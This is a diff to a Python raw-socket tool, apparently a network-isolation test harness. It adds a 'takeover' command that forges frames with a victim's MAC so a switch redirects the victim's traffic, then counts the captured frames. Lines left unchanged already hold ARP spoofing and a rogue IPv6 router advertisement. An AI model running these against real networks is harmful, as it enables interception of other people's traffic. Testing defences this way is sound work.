@@ -5,6 +5,11 @@ claim IFACE SENDER_IP TARGET_IP: broadcasts "who-has TARGET_IP tell SENDER_IP" w
     MAC. The owner of TARGET_IP then believes SENDER_IP is at IFACE's MAC.
 probe IFACE TARGET_IP: an RFC 5227 probe (sender 0.0.0.0); prints "reply" when TARGET_IP's
     owner answers within 2 s, else "none".
+announce IFACE: sends one broadcast frame (local experimental ethertype 0x88b5) from IFACE's own
+    MAC, so the bridge learns IFACE's MAC on its port.
+takeover IFACE VICTIM_MAC SECONDS: sends broadcast frames with VICTIM_MAC as their source (a
+    bridge that believes them moves VICTIM_MAC to IFACE's port), prints "sent", then counts for
+    SECONDS the frames addressed to VICTIM_MAC that reach IFACE and prints the count.
 ra IFACE: sends an IPv6 router advertisement (router lifetime 1800 s) to all nodes from
     IFACE's link-local address; a neighbour that accepts it gets a default route via IFACE.
 """
@@ -14,6 +19,8 @@ import sys
 import time
 
 ETH_P_ARP = 0x0806
+ETH_P_ALL = 0x0003
+ETH_P_EXPERIMENTAL = 0x88B5  # IEEE 802 local experimental: no host stack handles it
 
 
 def request(src_mac, sender_ip, target_ip):
@@ -52,6 +59,41 @@ def probe(iface, target_ip):
     print("none")
 
 
+def raw_socket(iface):
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    s.bind((iface, ETH_P_ALL))
+    return s, s.getsockname()[4]
+
+
+def experimental_frame(src_mac):
+    return b"\xff" * 6 + src_mac + struct.pack("!H", ETH_P_EXPERIMENTAL) + b"bulkhead" * 6
+
+
+def announce(iface):
+    s, mac = raw_socket(iface)
+    s.send(experimental_frame(mac))
+
+
+def takeover(iface, victim_mac, seconds):
+    victim = bytes.fromhex(victim_mac.replace(":", ""))
+    s, _ = raw_socket(iface)
+    for _ in range(3):
+        s.send(experimental_frame(victim))
+        time.sleep(0.02)
+    print("sent", flush=True)
+    s.settimeout(0.1)
+    stolen = 0
+    end = time.time() + seconds
+    while time.time() < end:
+        try:
+            frame, address = s.recvfrom(65535)
+        except socket.timeout:
+            continue
+        if address[2] != socket.PACKET_OUTGOING and frame[:6] == victim:
+            stolen += 1
+    print(stolen, flush=True)
+
+
 def router_advertisement(iface):
     s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
     index = socket.if_nametoindex(iface)
@@ -70,5 +112,9 @@ if __name__ == "__main__":
         claim(sys.argv[2], sys.argv[3], sys.argv[4])
     elif sys.argv[1] == "probe":
         probe(sys.argv[2], sys.argv[3])
+    elif sys.argv[1] == "announce":
+        announce(sys.argv[2])
+    elif sys.argv[1] == "takeover":
+        takeover(sys.argv[2], sys.argv[3], float(sys.argv[4]))
     else:
         router_advertisement(sys.argv[2])
